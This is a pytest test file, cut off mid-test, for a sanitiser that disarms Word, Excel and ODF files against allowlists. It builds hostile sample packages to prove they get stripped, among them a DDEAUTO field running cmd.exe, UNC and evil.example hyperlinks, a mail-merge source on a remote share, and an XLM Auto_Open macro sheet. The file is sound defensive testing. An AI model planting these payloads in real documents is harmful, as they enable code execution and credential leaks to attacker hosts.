"""OOXML and ODF CDR by positive selection (issue 9, items 1-4): hostile
packages built here, each output checked with an independent reader
(zipfile + ElementTree) for the active content being gone AND the visible
text, cell values and images surviving; and a walk over every office file of
the shared corpus and the fuzz seeds asserting that no output holds a part,
relationship, field, formula or attribute outside the allowlists, which are
written here again, independently of src/cdr/ooxml_allow.c and formula.c."""
import io
import os
import re
import struct
import zipfile
import zlib
import xml.etree.ElementTree as ET

import pytest

from test_file_util import CORPUS, ROOT, make_zip, parts, sanitize

W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
S = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PR = "http://schemas.openxmlformats.org/package/2006/relationships"
CT = "http://schemas.openxmlformats.org/package/2006/content-types"
RT = R + "/"
MSRT = "http://schemas.microsoft.com/office/"
OD = "application/vnd.openxmlformats-officedocument."
WML, SML, PML = OD + "wordprocessingml.", OD + "spreadsheetml.", OD + "presentationml."
DOCX_MAIN = WML + "document.main+xml"
XLSM_MAIN = "application/vnd.ms-excel.sheet.macroEnabled.main+xml"
XLSX_MAIN = SML + "sheet.main+xml"

# ---- the allowlists, independently -------------------------------------------

CT_COMMON = {
    "application/vnd.openxmlformats-package.relationships+xml",
    "application/vnd.openxmlformats-package.core-properties+xml",
    OD + "extended-properties+xml", OD + "custom-properties+xml", OD + "theme+xml",
    OD + "themeOverride+xml", OD + "drawingml.chart+xml", OD + "drawingml.chartshapes+xml",
    OD + "drawingml.diagramData+xml", OD + "drawingml.diagramLayout+xml",
    OD + "drawingml.diagramStyle+xml", OD + "drawingml.diagramColors+xml",
    "application/vnd.ms-office.drawingml.diagramDrawing+xml",
    "application/vnd.ms-office.chartstyle+xml", "application/vnd.ms-office.chartcolorstyle+xml",
    OD + "vmlDrawing", OD + "customXmlProperties+xml", "application/xml",
    "image/png", "image/jpeg", "image/jpg", "image/gif", "image/bmp", "image/tiff",
}
CT_KIND = {
    "word": {WML + x for x in (
        "document.main+xml", "template.main+xml", "document.glossary+xml", "styles+xml",
        "settings+xml", "webSettings+xml", "fontTable+xml", "numbering+xml", "footnotes+xml",
        "endnotes+xml", "comments+xml", "commentsExtended+xml", "commentsIds+xml",
        "commentsExtensible+xml", "people+xml", "header+xml", "footer+xml")}
    | {"application/vnd.ms-word.stylesWithEffects+xml"},
    "sheet": {SML + x for x in (
        "sheet.main+xml", "template.main+xml", "worksheet+xml", "chartsheet+xml",
        "sharedStrings+xml", "styles+xml", "calcChain+xml", "table+xml", "comments+xml",
        "pivotTable+xml", "pivotCacheDefinition+xml", "pivotCacheRecords+xml",
        "sheetMetadata+xml")}
    | {OD + "drawing+xml", "application/vnd.ms-excel.threadedcomments+xml",
       "application/vnd.ms-excel.person+xml"},
    "slide": {PML + x for x in (
        "presentation.main+xml", "slideshow.main+xml", "template.main+xml", "slide+xml",
        "slideLayout+xml", "slideMaster+xml", "notesSlide+xml", "notesMaster+xml",
        "handoutMaster+xml", "presProps+xml", "viewProps+xml", "tableStyles+xml",
        "commentAuthors+xml", "comments+xml", "tags+xml")}
    | {"application/vnd.ms-powerpoint.comments+xml", "application/vnd.ms-powerpoint.authors+xml"},
}
REL_COMMON = {RT + x for x in (
    "officeDocument", "extended-properties", "custom-properties", "theme", "themeOverride",
    "image", "chart", "chartUserShapes", "diagramData", "diagramLayout", "diagramQuickStyle",
    "diagramColors", "customXml", "customXmlProps", "vmlDrawing")} | {
    "http://schemas.openxmlformats.org/package/2006/relationships/metadata/core-properties",
    "http://schemas.openxmlformats.org/package/2006/relationships/metadata/thumbnail",
    MSRT + "2011/relationships/chartStyle", MSRT + "2011/relationships/chartColorStyle",
    MSRT + "2007/relationships/diagramDrawing"}
REL_KIND = {
    "word": {RT + x for x in ("styles", "settings", "webSettings", "fontTable", "numbering",
                              "footnotes", "endnotes", "comments", "header", "footer",
                              "glossaryDocument")}
    | {MSRT + x for x in ("2007/relationships/stylesWithEffects", "2011/relationships/people",
                          "2011/relationships/commentsExtended", "2016/09/relationships/commentsIds",
                          "2018/08/relationships/commentsExtensible")},
    "sheet": {RT + x for x in ("styles", "comments", "worksheet", "chartsheet", "sharedStrings",
                               "calcChain", "table", "pivotTable", "pivotCacheDefinition",
                               "pivotCacheRecords", "drawing", "sheetMetadata")}
    | {MSRT + "2017/10/relationships/threadedComment", MSRT + "2017/10/relationships/person"},
    "slide": {RT + x for x in ("comments", "slide", "slideLayout", "slideMaster", "notesSlide",
                               "notesMaster", "handoutMaster", "presProps", "viewProps",
                               "tableStyles", "commentAuthors", "tags")}
    | {MSRT + "2018/10/relationships/comments", MSRT + "2018/10/relationships/authors"},
}
FIELDS_OK = set("""= ADVANCE AUTHOR AUTONUM AUTONUMLGL AUTONUMOUT BARCODE BIDIOUTLINE COMMENTS
    COMPARE CREATEDATE DATE DISPLAYBARCODE DOCPROPERTY EDITTIME EQ FORMCHECKBOX FORMDROPDOWN
    FORMTEXT GOTOBUTTON IF INDEX INFO KEYWORDS LASTSAVEDBY LISTNUM NOTEREF NUMCHARS NUMPAGES
    NUMWORDS PAGE PAGEREF PRINTDATE QUOTE REF REVNUM SAVEDATE SECTION SECTIONPAGES SEQ SET
    STYLEREF SUBJECT SYMBOL TA TC TEMPLATE TIME TITLE TOA TOC XE""".split())
FUNCTIONS_OK = set("""
    ABS ACCRINT ACCRINTM ACOS ACOSH ACOT ACOTH ADDRESS AGGREGATE AMORDEGRC AMORLINC AND ARABIC
    AREAS ARRAYTOTEXT ASC ASIN ASINH ATAN ATAN2 ATANH AVEDEV AVERAGE AVERAGEA AVERAGEIF
    AVERAGEIFS B BAHTTEXT BASE BESSELI BESSELJ BESSELK BESSELY BETA.DIST BETA.INV BETADIST
    BETAINV BIN2DEC BIN2HEX BIN2OCT BINOM.DIST BINOM.DIST.RANGE BINOM.INV BINOMDIST BITAND
    BITLSHIFT BITOR BITRSHIFT BITXOR BYCOL BYROW CEILING CEILING.MATH CEILING.PRECISE CELL CHAR
    CHIDIST CHIINV CHISQ.DIST CHISQ.DIST.RT CHISQ.INV CHISQ.INV.RT CHISQ.TEST CHISQDIST
    CHISQINV CHITEST CHOOSE CHOOSECOLS CHOOSEROWS CLEAN CODE COLUMN COLUMNS COMBIN COMBINA
    COMPLEX CONCAT CONCATENATE CONFIDENCE CONFIDENCE.NORM CONFIDENCE.T CONVERT CORREL COS COSH
    COT COTH COUNT COUNTA COUNTBLANK COUNTIF COUNTIFS COUPDAYBS COUPDAYS COUPDAYSNC COUPNCD
    COUPNUM COUPPCD COVAR COVARIANCE.P COVARIANCE.S CRITBINOM CSC CSCH CUMIPMT CUMPRINC CURRENT
    DATE DATEDIF DATEVALUE DAVERAGE DAY DAYS DAYS360 DAYSINMONTH DAYSINYEAR DB DBCS DCOUNT
    DCOUNTA DDB DEC2BIN DEC2HEX DEC2OCT DECIMAL DEGREES DELTA DEVSQ DGET DISC DMAX DMIN DOLLAR
    DOLLARDE DOLLARFR DPRODUCT DROP DSTDEV DSTDEVP DSUM DURATION DVAR DVARP EASTERSUNDAY EDATE
    EFFECT ENCODEURL EOMONTH ERF ERF.PRECISE ERFC ERFC.PRECISE ERROR.TYPE ERRORTYPE EVEN EXACT
    EXP EXPAND EXPON.DIST EXPONDIST F.DIST F.DIST.RT F.INV F.INV.RT F.TEST FACT FACTDOUBLE
    FALSE FDIST FILTER FIND FINDB FINV FISHER FISHERINV FIXED FLOOR FLOOR.MATH FLOOR.PRECISE
    FORECAST FORECAST.ETS FORECAST.ETS.CONFINT FORECAST.ETS.SEASONALITY FORECAST.ETS.STAT
    FORECAST.LINEAR FORMULATEXT FREQUENCY FTEST FV FVSCHEDULE GAMMA GAMMA.DIST GAMMA.INV
    GAMMADIST GAMMAINV GAMMALN GAMMALN.PRECISE GAUSS GCD GEOMEAN GESTEP GETPIVOTDATA GROWTH
    HARMEAN HEX2BIN HEX2DEC HEX2OCT HLOOKUP HOUR HSTACK HYPGEOM.DIST HYPGEOMDIST IF IFERROR
    IFNA IFS IMABS IMAGINARY IMARGUMENT IMCONJUGATE IMCOS IMCOSH IMCOT IMCSC IMCSCH IMDIV IMEXP
    IMLN IMLOG10 IMLOG2 IMPOWER IMPRODUCT IMREAL IMSEC IMSECH IMSIN IMSINH IMSQRT IMSUB IMSUM
    IMTAN INDEX INDIRECT INT INTERCEPT INTRATE IPMT IRR ISBLANK ISERR ISERROR ISEVEN ISFORMULA
    ISLEAPYEAR ISLOGICAL ISNA ISNONTEXT ISNUMBER ISO.CEILING ISODD ISOMITTED ISOWEEKNUM ISPMT
    ISREF ISTEXT JIS KURT LAMBDA LARGE LCM LEFT LEFTB LEGACY.CHIDIST LEGACY.CHIINV LEGACY.FDIST
    LEGACY.FINV LEGACY.NORMSDIST LEGACY.NORMSINV LEGACY.TDIST LEGACY.TINV LEN LENB LET LINEST
    LN LOG LOG10 LOGEST LOGINV LOGNORM.DIST LOGNORM.INV LOGNORMDIST LOOKUP LOWER MAKEARRAY MAP
    MATCH MAX MAXA MAXIFS MDETERM MDURATION MEDIAN MID MIDB MIN MINA MINIFS MINUTE MINVERSE
    MIRR MMULT MOD MODE MODE.MULT MODE.SNGL MONTH MONTHS MROUND MULTINOMIAL MULTIPLE.OPERATIONS
    MUNIT N NA NEGBINOM.DIST NEGBINOMDIST NETWORKDAYS NETWORKDAYS.INTL NOMINAL NORM.DIST
    NORM.INV NORM.S.DIST NORM.S.INV NORMDIST NORMINV NORMSDIST NORMSINV NOT NOW NPER NPV
    NUMBERVALUE OCT2BIN OCT2DEC OCT2HEX ODD ODDFPRICE ODDFYIELD ODDLPRICE ODDLYIELD OFFSET OR
    PDURATION PEARSON PERCENTILE PERCENTILE.EXC PERCENTILE.INC PERCENTRANK PERCENTRANK.EXC
    PERCENTRANK.INC PERMUT PERMUTATIONA PHI PHONETIC PI PMT POISSON POISSON.DIST POWER PPMT
    PRICE PRICEDISC PRICEMAT PROB PRODUCT PROPER PV QUARTILE QUARTILE.EXC QUARTILE.INC QUOTIENT
    RADIANS RAND RANDARRAY RANDBETWEEN RANK RANK.AVG RANK.EQ RATE RECEIVED REDUCE REPLACE
    REPLACEB REPT RIGHT RIGHTB ROMAN ROT13 ROUND ROUNDDOWN ROUNDUP ROW ROWS RRI RSQ SCAN SEARCH
    SEARCHB SEC SECH SECOND SEQUENCE SERIESSUM SHEET SHEETS SIGN SIN SINGLE SINH SKEW SKEW.P
    SLN SLOPE SMALL SORT SORTBY SQRT SQRTPI STANDARDIZE STDEV STDEV.P STDEV.S STDEVA STDEVP
    STDEVPA STEYX SUBSTITUTE SUBTOTAL SUM SUMIF SUMIFS SUMPRODUCT SUMSQ SUMX2MY2 SUMX2PY2
    SUMXMY2 SWITCH SYD T T.DIST T.DIST.2T T.DIST.RT T.INV T.INV.2T T.TEST TAKE TAN TANH TBILLEQ
    TBILLPRICE TBILLYIELD TDIST TEXT TEXTAFTER TEXTBEFORE TEXTJOIN TEXTSPLIT TIME TIMEVALUE
    TINV TOCOL TODAY TOROW TRANSPOSE TREND TRIM TRIMMEAN TRUE TRUNC TTEST TYPE UNICHAR UNICODE
    UNIQUE UPPER VALUE VALUETOTEXT VAR VAR.P VAR.S VARA VARP VARPA VDB VLOOKUP VSTACK WEEKDAY
    WEEKNUM WEEKS WEEKSINYEAR WEIBULL WEIBULL.DIST WORKDAY WORKDAY.INTL WRAPCOLS WRAPROWS XIRR
    XLOOKUP XMATCH XNPV XOR YEAR YEARFRAC YEARS YIELD YIELDDISC YIELDMAT Z.TEST ZTEST
""".split())
COND_OK = {"CELL-CONTENT", "CELL-CONTENT-IS-BETWEEN", "CELL-CONTENT-IS-NOT-BETWEEN",
           "CELL-CONTENT-IS-WHOLE-NUMBER", "CELL-CONTENT-IS-DECIMAL-NUMBER",
           "CELL-CONTENT-IS-DATE", "CELL-CONTENT-IS-TIME", "CELL-CONTENT-TEXT-LENGTH",
           "CELL-CONTENT-TEXT-LENGTH-IS-BETWEEN", "CELL-CONTENT-TEXT-LENGTH-IS-NOT-BETWEEN",
           "CELL-CONTENT-IS-IN-LIST", "IS-TRUE-FORMULA", "VALUE", "FORMULA-IS", "BETWEEN",
           "NOT-BETWEEN", "DUPLICATE", "UNIQUE", "TOP-ELEMENTS", "BOTTOM-ELEMENTS", "TOP-PERCENT",
           "BOTTOM-PERCENT", "ABOVE-AVERAGE", "BELOW-AVERAGE", "ABOVE-EQUAL-AVERAGE",
           "BELOW-EQUAL-AVERAGE", "ERROR", "NO-ERROR", "BEGINS-WITH", "ENDS-WITH",
           "CONTAINS-TEXT", "NOT-CONTAINS-TEXT"}
PREFIXES = ("_XLFN.", "_XLWS.", "COM.MICROSOFT.", "ORG.OPENOFFICE.", "ORG.LIBREOFFICE.")
URL_ATTRS = {"href", "althref", "src", "action", "url", "link", "connection", "connectString",
             "dataSource", "base"}
PPACTIONS = ("ppaction://hlinksldjump", "ppaction://hlinkshowjump?jump=", "ppaction://noaction",
             "ppaction://customshow?", "ppaction://media")


def local(tag):
    return tag.rsplit("}", 1)[-1]


def formula_problem(f, cond=False):
    """None when the formula only calls allowed functions and reaches nothing
    outside; else a reason. Independent of formula.c: strings and quoted names
    are cut out by regular expressions first."""
    f = re.sub(r"^\s*(of:|oooc:|msoxl:)?\s*=?", "", f, flags=re.I)
    for s in re.findall(r'"((?:[^"]|"")*)"', f):
        if re.search(r"://|\\\\|mailto:|file:|https?:|ftp:|ms-|//", s, re.I):
            return "url literal " + s
    f = re.sub(r'"(?:[^"]|"")*"', '""', f)
    for q in re.findall(r"'((?:[^']|'')*)'", f):
        if re.search(r"[\[\]\\/:|]", q):
            return "external name " + q
    f = re.sub(r"'(?:[^']|'')*'", "''", f)
    if "|" in f or "\\" in f:
        return "dde"
    if re.search(r"(^|[^A-Za-z0-9_.\]])\[\d+\]", f) or "#$" in f and "[" in f and "'" in f:
        return "external workbook"
    if re.search(r"\[[^\]]*#", f) and not re.search(r"\[\[?#", f):
        return "external document"
    ident = r"[A-Za-z0-9_.$\u0080-\uffff%s]+" % ("-" if cond else "")
    for name in re.findall(r"(%s)\s*\(" % ident, f):
        n = name.upper()
        stripped = True
        while stripped:
            stripped = False
            for p in PREFIXES:
                if n.startswith(p):
                    n, stripped = n[len(p):], True
        if n not in FUNCTIONS_OK and not (cond and n in COND_OK):
            return "function " + name
    return None


def field_problem(instr):
    s = instr.strip()
    if s.startswith("="):
        return None
    word = re.split(r"[\s\\\"]", s, maxsplit=1)[0].upper()
    if word == "HYPERLINK":
        rest = s[len(word):].strip()
        ok = rest.startswith("\\l") and ":" not in rest and "//" not in rest and "\\\\" not in rest
        return None if ok else "hyperlink " + s
    return None if word in FIELDS_OK else "field " + s


def complex_fields(root):
    """Joined instructions of every complex field, in document order."""
    out, stack = [], []
    for el in root.iter():
        t = local(el.tag)
        if t == "fldChar":
            kind = el.get("{%s}fldCharType" % W)
            if kind == "begin":
                stack.append({"instr": "", "sep": False})
            elif kind == "separate" and stack:
                stack[-1]["sep"] = True
            elif kind == "end" and stack:
                out.append(stack.pop()["instr"])
        elif t in ("instrText", "delInstrText") and stack and not stack[-1]["sep"]:
            stack[-1]["instr"] += el.text or ""
    return out + [s["instr"] for s in stack]


def kind_of(ct_root):
    for o in ct_root:
        ct = o.get("ContentType", "")
        if ".main+xml" in ct:
            if "wordprocessingml" in ct or "ms-word" in ct:
                return "word"
            if "spreadsheetml" in ct or "ms-excel" in ct:
                return "sheet"
            if "presentationml" in ct or "ms-powerpoint" in ct:
                return "slide"
    return None


def assert_ooxml_allowlisted(out):
    """Every part, relationship, field, formula and URL attribute of an
    OOXML output is on the allowlists."""
    p = parts(out)
    names_ci = [n.lower() for n in p]
    assert len(set(names_ci)) == len(names_ci), "case twins"
    ctr = ET.fromstring(p["[Content_Types].xml"])
    kind = kind_of(ctr)
    assert kind, "no main part"
    assert all("macroEnabled" not in o.get("ContentType", "") for o in ctr)
    over = {o.get("PartName", "").lstrip("/").lower(): o.get("ContentType") for o in ctr
            if local(o.tag) == "Override"}
    dflt = {o.get("Extension", "").lower(): o.get("ContentType") for o in ctr
            if local(o.tag) == "Default"}
    for n, data in p.items():
        if n == "[Content_Types].xml" or n.endswith("/"):
            continue
        ct = over.get(n.lower()) or dflt.get(n.rsplit(".", 1)[-1].lower())
        assert ct in CT_COMMON | CT_KIND[kind], (n, ct)
        if ct.startswith("image/"):
            assert data[:8] == b"\x89PNG\r\n\x1a\n" or data[:3] == b"\xff\xd8\xff", n
            continue
        root = ET.fromstring(data)
        if n.endswith(".rels"):
            for rel in root:
                assert rel.get("TargetMode", "Internal") == "Internal", (n, rel.attrib)
                assert rel.get("Type") in REL_COMMON | REL_KIND[kind], (n, rel.get("Type"))
                assert not re.search(r"^[a-z]+:|\\|^//", rel.get("Target", ""), re.I), rel.attrib
            continue
        for instr in complex_fields(root):
            assert field_problem(instr) is None, (n, instr)
        for el in root.iter():
            t = local(el.tag)
            if t == "fldSimple":
                assert field_problem(el.get("{%s}instr" % W, "")) is None, (n, el.attrib)
            if t in ("f", "formula", "formula1", "formula2", "definedName") and el.text:
                assert formula_problem(el.text) is None, (n, t, el.text)
            if t == "definedName":
                name = el.get("name", "").lower().replace("_xlnm.", "")
                assert not name.startswith(("auto_open", "auto_close", "auto_activate",
                                            "auto_deactivate")), el.attrib
            assert t not in ("altChunk", "OLEObject", "oleObj", "control", "mailMerge",
                             "externalReference", "ddeLink", "oleLink", "attachedTemplate"), (n, t)
            for a, v in el.attrib.items():
                if a.startswith("{%s}" % R) or local(a) not in URL_ATTRS or not v:
                    continue
                if local(a) == "action" and v.lower().startswith(PPACTIONS):
                    continue
                target = v if v.startswith("/") else os.path.normpath(
                    os.path.join(os.path.dirname(n), v)).replace(os.sep, "/")
                assert v.startswith("#") and ":" not in v or target.lstrip("/").lower() in names_ci, (n, a, v)
    return p


def assert_odf_allowlisted(out):
    p = parts(out)
    for n in ("content.xml", "styles.xml"):
        if n not in p:
            continue
        for el in ET.fromstring(p[n]).iter():
            for a, v in el.attrib.items():
                la = local(a)
                if la == "formula" or la == "expression":
                    assert formula_problem(v) is None, (n, a, v)
                if la in ("condition", "value") and local(el.tag) in ("content-validation", "map", "condition"):
                    assert formula_problem(v, cond=True) is None, (n, a, v)
                if la == "href":
                    assert v.startswith("#") or (v.lstrip("./") in p and ":" not in v), (n, v)
            assert local(el.tag) not in ("script", "event-listener", "object", "dde-source",
                                         "dde-link", "execute-macro")
    return p


# ---- building hostile packages ------------------------------------------------

def png(w=2, h=2):
    def chunk(t, d):
        return struct.pack(">I", len(d)) + t + d + struct.pack(">I", zlib.crc32(t + d))
    raw = b"".join(b"\x00" + b"\xff\x00\x00" * w for _ in range(h))
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", w, h, 8, 2, 0, 0, 0))
            + chunk(b"IDAT", zlib.compress(raw)) + chunk(b"IEND", b""))


def types(overrides, defaults=(("rels", "application/vnd.openxmlformats-package.relationships+xml"),
                                ("xml", "application/xml"), ("png", "image/png"))):
    d = "".join('<Default Extension="%s" ContentType="%s"/>' % x for x in defaults)
    o = "".join('<Override PartName="/%s" ContentType="%s"/>' % x for x in overrides)
    return '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="%s">%s%s</Types>' % (CT, d, o)


def rels(*items):
    body = ""
    for i, t, target, *ext in items:
        body += '<Relationship Id="%s" Type="%s" Target="%s"%s/>' % (
            i, t if "://" in t else RT + t, target, ' TargetMode="External"' if ext and ext[0] else "")
    return '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="%s">%s</Relationships>' % (PR, body)


def document(body):
    return ('<w:document xmlns:w="%s" xmlns:r="%s" xmlns:v="urn:schemas-microsoft-com:vml" '
            'xmlns:o="urn:schemas-microsoft-com:office:office"><w:body>%s</w:body></w:document>'
            % (W, R, body))


def docx(body, doc_rels=(), extra=(), overrides=(), settings=None):
    ov = [("word/document.xml", DOCX_MAIN)] + list(overrides)
    entries = [("_rels/.rels", rels(("rId1", "officeDocument", "word/document.xml"))),
               ("word/document.xml", document(body)),
               ("word/_rels/document.xml.rels", rels(*doc_rels))]
    if settings:
        ov.append(("word/settings.xml", WML + "settings+xml"))
        doc_rels = list(doc_rels) + [("rIdS", "settings", "settings.xml")]
        entries[2] = ("word/_rels/document.xml.rels", rels(*doc_rels))
        entries.append(("word/settings.xml", settings))
    return make_zip([("[Content_Types].xml", types(ov))] + entries + list(extra))


def run(text):
    return '<w:r><w:t xml:space="preserve">%s</w:t></w:r>' % text


def fld(*pieces, result="shown result"):
    """A complex field whose instruction is split over several runs."""
    instr = "".join('<w:r><w:instrText xml:space="preserve">%s</w:instrText></w:r>' % p for p in pieces)
    return ('<w:r><w:fldChar w:fldCharType="begin"/></w:r>%s<w:r><w:fldChar w:fldCharType="separate"/></w:r>'
            '%s<w:r><w:fldChar w:fldCharType="end"/></w:r>' % (instr, run(result)))


def ok(data, name):
    rc, rep, out = sanitize(data, name)
    assert rc == 0 and rep["verdict"] == "sanitized", rep
    return rep, out


def text_of(xml_bytes):
    return "".join(t for t in ET.fromstring(xml_bytes).itertext())


# ---- Word: fields, mail merge, VML -----------------------------------------------

def test_dde_split_across_three_runs_replaced_by_its_result():
    body = ('<w:p>%s%s</w:p>' % (run("前文 "), fld(" DD", "EAUTO c:\\\\windows\\\\system32\\\\cmd.exe ",
                                                    '"/k calc" ', result="ＤＤＥ結果")))
    body += '<w:p>%s</w:p>' % fld(" PAGE ", result="7")
    rep, out = ok(docx(body), "dde.docx")
    p = assert_ooxml_allowlisted(out)
    doc = p["word/document.xml"]
    assert b"instrText" in doc and b"calc" not in doc and b"EAUTO" not in doc
    assert "前文 ＤＤＥ結果7" == text_of(doc).replace(" PAGE ", "")
    assert "field-replaced: DDEAUTO in word/document.xml" in rep["actions"]
    assert not any("PAGE" in a for a in rep["actions"])


def test_hyperlink_fields_to_https_and_unc_go_internal_stays():
    body = ('<w:p>%s</w:p><w:p>%s</w:p><w:p>%s</w:p>'
            '<w:p><w:fldSimple w:instr=" HYPERLINK &quot;\\\\\\\\evil\\\\share&quot; ">%s</w:fldSimple></w:p>'
            '<w:p><w:fldSimple w:instr=" NUMPAGES ">%s</w:fldSimple></w:p>') % (
        fld(' HYPERLINK "https://evil.example/x" ', result="ウェブ"),
        fld(' HYPER', 'LINK "\\\\\\\\evil\\\\share\\\\a.docx" ', result="共有"),
        fld(' HYPERLINK \\l "_Toc1" \\h ', result="目次1"),
        run("UNC表示"), run("3"))
    rep, out = ok(docx(body), "h.docx")
    p = assert_ooxml_allowlisted(out)
    doc = p["word/document.xml"]
    assert b"evil" not in doc and b"https" not in doc
    assert b"_Toc1" in doc  # the jump inside the document stays
    assert text_of(doc).count("ウェブ") == 1 and "共有" in text_of(doc) and "UNC表示" in text_of(doc)
    assert b'w:instr=" NUMPAGES "' in doc
    assert "field-replaced: HYPERLINK in word/document.xml (x3)" in rep["actions"]


def test_nested_field_inside_bad_field_code_goes():
    body = '<w:p>%s</w:p>' % (
        '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> INCLUDETEXT "</w:instrText></w:r>'
        + fld(" REF path ", result="\\\\\\\\evil\\\\x.docx") +
        '<w:r><w:instrText>" </w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r>'
        + run("取り込み結果") + '<w:r><w:fldChar w:fldCharType="end"/></w:r>')
    rep, out = ok(docx(body), "n.docx")
    doc = assert_ooxml_allowlisted(out)["word/document.xml"]
    assert b"evil" not in doc and b"INCLUDETEXT" not in doc and "取り込み結果" in text_of(doc)


def test_unc_mail_merge_removed():
    settings = ('<w:settings xmlns:w="%s" xmlns:r="%s"><w:mailMerge><w:mainDocumentType w:val="formLetters"/>'
                '<w:linkToQuery/><w:dataType w:val="native"/>'
                '<w:connectString w:val="Provider=Microsoft.ACE.OLEDB.12.0;Data Source=\\\\evil\\share\\x.xlsx"/>'
                '<w:query w:val="SELECT * FROM `Sheet1$`"/><w:dataSource r:id="rId9"/></w:mailMerge>'
                '<w:defaultTabStop w:val="720"/></w:settings>' % (W, R))
    src = docx('<w:p>%s</w:p>' % run("差し込み本文"), settings=settings,
               extra=[("word/_rels/settings.xml.rels",
                       rels(("rId9", "mailMergeSource", "file:///\\\\evil\\share\\x.xlsx", True)))])
    rep, out = ok(src, "mm.docx")
    p = assert_ooxml_allowlisted(out)
    assert b"evil" not in b"".join(p.values()) and b"mailMerge" not in p["word/settings.xml"]
    assert b"defaultTabStop" in p["word/settings.xml"] and "差し込み本文" in text_of(p["word/document.xml"])
    assert "element-removed: <mailMerge> in word/settings.xml" in rep["actions"]


def test_vml_href_and_imagedata_src_outside_removed_image_inside_stays():
    body = ('<w:p><w:r><w:pict><v:shape id="s1" href="\\\\evil\\share\\x" o:href="file://evil/x">'
            '<v:imagedata src="\\\\evil\\share\\img.png" o:title=""/></v:shape>'
            '<v:shape id="s2"><v:imagedata r:id="rIdImg" o:title=""/></v:shape></w:pict></w:r>%s</w:p>'
            % run("図の説明"))
    src = docx(body, [("rIdImg", "image", "media/image1.png")], extra=[("word/media/image1.png", png())])
    rep, out = ok(src, "v.docx")
    p = assert_ooxml_allowlisted(out)
    doc = p["word/document.xml"]
    assert b"evil" not in doc and b'r:id="rIdImg"' in doc
    assert p["word/media/image1.png"].startswith(b"\x89PNG") and "図の説明" in text_of(doc)
    assert "attribute-removed: src of <imagedata> in word/document.xml" in rep["actions"]


def test_vml_that_is_not_xml_is_dropped_not_blocking():
    src = xlsx(sheet('<row r="1"><c r="A1"><v>1</v></c></row>', '<legacyDrawing r:id="rId1"/>'),
               extra=[("xl/worksheets/_rels/sheet1.xml.rels", rels(("rId1", "vmlDrawing", "../drawings/vmlDrawing1.vml"))),
                      ("xl/drawings/vmlDrawing1.vml", "<xml><v:shape><br></v:shape></xml>")],
               overrides=[("xl/drawings/vmlDrawing1.vml", OD + "vmlDrawing")])
    rep, out = ok(src, "vml.xlsx")
    p = assert_ooxml_allowlisted(out)
    assert "xl/drawings/vmlDrawing1.vml" not in p and b"legacyDrawing" not in p["xl/worksheets/sheet1.xml"]
    assert "relationship-removed: vmlDrawing in xl/worksheets/_rels/sheet1.xml.rels (VML does not parse)" in rep["actions"]


def test_second_content_types_in_other_case_blocks():
    src = docx('<w:p>%s</w:p>' % run("x"), extra=[
        ("[content_types].xml", types([("word/document.xml", "application/vnd.ms-word.document.macroEnabled.main+xml")]))])
    rc, rep, out = sanitize(src, "case.docx")
    assert rep["verdict"] == "blocked" and out is None
    assert rep["reason"] == "ooxml-case-collision: [Content_Types].xml, [content_types].xml"


def test_webextensions_taskpanes_and_customui_dropped():
    src = make_zip([
        ("[Content_Types].xml", types([("word/document.xml", DOCX_MAIN),
                                       ("word/webextensions/webextension1.xml", "application/vnd.ms-office.webextension+xml"),
                                       ("word/webextensions/taskpanes.xml", "application/vnd.ms-office.webextensiontaskpanes+xml")])),
        ("_rels/.rels", rels(("rId1", "officeDocument", "word/document.xml"),
                             ("rId2", MSRT + "2011/relationships/webextensiontaskpanes", "word/webextensions/taskpanes.xml"),
                             ("rId3", MSRT + "2007/relationships/ui/extensibility", "customUI/customUI14.xml"))),
        ("word/document.xml", document('<w:p>%s</w:p>' % run("アドイン付き"))),
        ("word/webextensions/taskpanes.xml", "<wetp:taskpanes xmlns:wetp='http://schemas.microsoft.com/office/webextensions/taskpanes/2010/11'/>"),
        ("word/webextensions/_rels/taskpanes.xml.rels", rels(("rId1", MSRT + "2011/relationships/webextension", "webextension1.xml"))),
        ("word/webextensions/webextension1.xml", "<we:webextension xmlns:we='http://schemas.microsoft.com/office/webextensions/webextension/2010/11'><we:reference id='wa1' store='https://evil.example/'/></we:webextension>"),
        ("customUI/customUI14.xml", "<customUI xmlns='http://schemas.microsoft.com/office/2009/07/customui' onLoad='Evil'/>"),
    ])
    rep, out = ok(src, "we.docx")
    p = assert_ooxml_allowlisted(out)
    assert sorted(p) == ["[Content_Types].xml", "_rels/.rels", "word/document.xml"]
    assert "アドイン付き" in text_of(p["word/document.xml"])
    assert "part-removed: word/webextensions/taskpanes.xml" in rep["actions"]
    assert "relationship-removed: webextensiontaskpanes in _rels/.rels (type not allowed)" in rep["actions"]


# ---- Excel -------------------------------------------------------------------------

def xlsx(sheet_xml, workbook_extra="", extra=(), wb_rels=(), overrides=(), main=XLSX_MAIN):
    wb = ('<workbook xmlns="%s" xmlns:r="%s"><sheets><sheet name="表" sheetId="1" r:id="rId1"/></sheets>%s</workbook>'
          % (S, R, workbook_extra))
    return make_zip([
        ("[Content_Types].xml", types([("xl/workbook.xml", main),
                                       ("xl/worksheets/sheet1.xml", SML + "worksheet+xml")] + list(overrides))),
        ("_rels/.rels", rels(("rId1", "officeDocument", "xl/workbook.xml"))),
        ("xl/workbook.xml", wb),
        ("xl/_rels/workbook.xml.rels", rels(("rId1", "worksheet", "worksheets/sheet1.xml"), *wb_rels)),
        ("xl/worksheets/sheet1.xml", sheet_xml),
    ] + list(extra))


def sheet(rows, after=""):
    return '<worksheet xmlns="%s" xmlns:r="%s"><sheetData>%s</sheetData>%s</worksheet>' % (S, R, rows, after)


def test_xlm_macrosheet_and_auto_open_removed_values_stay():
    wb = ('<workbook xmlns="%s" xmlns:r="%s"><sheets><sheet name="表" sheetId="1" r:id="rId1"/>'
          '<sheet name="Macro1" sheetId="2" state="veryHidden" r:id="rId2"/></sheets>'
          '<definedNames><definedName name="_xlnm.Auto_Open" hidden="1">Macro1!$A$1</definedName>'
          '<definedName name="合計">表!$A$1:$A$2</definedName></definedNames></workbook>' % (S, R))
    src = make_zip([
        ("[Content_Types].xml", types([("xl/workbook.xml", XLSM_MAIN),
